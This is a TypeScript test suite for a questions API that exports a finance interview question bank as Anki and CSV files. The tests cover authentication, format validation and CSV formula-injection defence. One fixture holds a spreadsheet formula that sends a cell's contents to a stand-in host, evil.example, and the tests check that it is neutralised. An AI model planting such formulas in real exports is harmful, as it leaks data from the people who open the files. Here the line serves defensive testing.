import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { signUpUser, type TestUser } from "../../test/accounts";
import { TestClient } from "../../test/http-client";
import { testDialects } from "../../test/test-database";
import { startTestServer, type TestServer } from "../../test/test-server";
import { parseDelimited } from "./delimited-text.test-util";
import { loadQuestionBank } from "./question-bank";
import { syncQuestionBank } from "./repository";

const bank = loadQuestionBank();
const frequencyOf = (id: string) => bank.find((entry) => entry.id === id)?.frequency ?? "occasional";

describe.each(testDialects)("questions API on %s", (kind) => {
  let server: TestServer;
  let user: TestUser;
  beforeAll(async () => {
    server = await startTestServer(kind);
    user = await signUpUser(server);
  });
  afterAll(async () => {
    await server.close();
  });

  it("gives every question its frequency, signed in or not", async () => {
    for (const client of [new TestClient(server.url), user.client]) {
      const response = await client.get("/api/questions");
      expect(response.status).toBe(200);
      const questions: Array<{ id: string; frequency: string }> = response.json.questions;
      expect(questions).toHaveLength(bank.length);
      for (const question of questions) expect(question.frequency).toBe(frequencyOf(question.id));
    }
  });

  it("refuses the export while signed out, whatever the format", async () => {
    for (const query of ["?format=anki", "?format=csv", "?format=pdf", ""]) {
      const response = await new TestClient(server.url).get(`/api/questions/export${query}`);
      expect(response.status).toBe(401);
      expect(response.json).toEqual({
        error: { code: "AUTH_REQUIRED", message: "You must be logged in to export the questions." },
      });
    }
  });

  it("refuses an unknown or missing format with a 400", async () => {
    for (const query of ["?format=pdf", "?format=ANKI", "?format=", ""]) {
      const response = await user.client.get(`/api/questions/export${query}`);
      expect(response.status, query).toBe(400);
      expect(response.json.error.code).toBe("INVALID_REQUEST");
      expect(response.json.error.message).toMatch(/format/);
    }
  });

  it("exports the bank for Anki: one tab-separated line per question, with its tags", async () => {
    const response = await user.client.get("/api/questions/export?format=anki");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe(
      'attachment; filename="finance-interview-questions-anki.txt"',
    );
    const lines = response.text.split("\n");
    expect(lines.slice(0, 3)).toEqual(["#separator:tab", "#html:false", "#tags column:3"]);
    const notes = lines.slice(3).filter((line) => line !== "");
    expect(notes).toHaveLength(bank.length);

    const rows = parseDelimited(lines.slice(3).join("\n"), "\t", "\n");
    expect(rows).toHaveLength(bank.length);
    const byQuestion = new Map(rows.map((row) => [row[0], row]));
    for (const entry of bank) {
      const row = byQuestion.get(entry.question);
      expect(row, entry.id).toBeDefined();
      expect(row).toEqual([
        entry.question,
        entry.answer,
        `${entry.topic} difficulty-${entry.difficulty} ${entry.frequency ?? "occasional"}`,
      ]);
    }
  });

  it("exports the bank as RFC 4180 CSV with a header row", async () => {
    const response = await user.client.get("/api/questions/export?format=csv");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get("content-disposition")).toBe(
      'attachment; filename="finance-interview-questions.csv"',
    );
    const [header, ...rows] = parseDelimited(response.text, ",", "\r\n");
    expect(header).toEqual(["id", "topic", "difficulty", "frequency", "question", "answer"]);
    expect(rows).toHaveLength(bank.length);
    const sorted = [...bank].sort((a, b) => (a.id < b.id ? -1 : 1));
    expect(rows).toEqual(
      sorted.map((entry) => [
        entry.id,
        entry.topic,
        String(entry.difficulty),
        entry.frequency ?? "occasional",
        entry.question,
        entry.answer,
      ]),
    );
  });
});

describe.each(testDialects)("question exports with formula-like text on %s", (kind) => {
  let server: TestServer;
  let user: TestUser;
  const formulaQuestion = {
    ...(bank[0] as (typeof bank)[number]),
    id: "zz-formula",
    question: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    answer: "-5% a year: margins fall, and the multiple contracts.",
  };
  beforeAll(async () => {
    server = await startTestServer(kind);
    await syncQuestionBank(server.database.db, [...bank, formulaQuestion]);
    user = await signUpUser(server);
  });
  afterAll(async () => {
    await server.close();
  });

  it("makes a cell that starts like a formula text, in the CSV and in the Anki file", async () => {
    const csv = await user.client.get("/api/questions/export?format=csv");
    const csvRow = parseDelimited(csv.text, ",", "\r\n").find((row) => row[0] === "zz-formula");
    expect(csvRow?.slice(4)).toEqual([`'${formulaQuestion.question}`, `'${formulaQuestion.answer}`]);
    const anki = await user.client.get("/api/questions/export?format=anki");
    const ankiLine = anki.text.split("\n").find((line) => line.includes("evil.example")) ?? "";
    expect(parseDelimited(`${ankiLine}\n`, "\t", "\n")[0]?.slice(0, 2)).toEqual([
      `'${formulaQuestion.question}`,
      `'${formulaQuestion.answer}`,
    ]);
  });
});
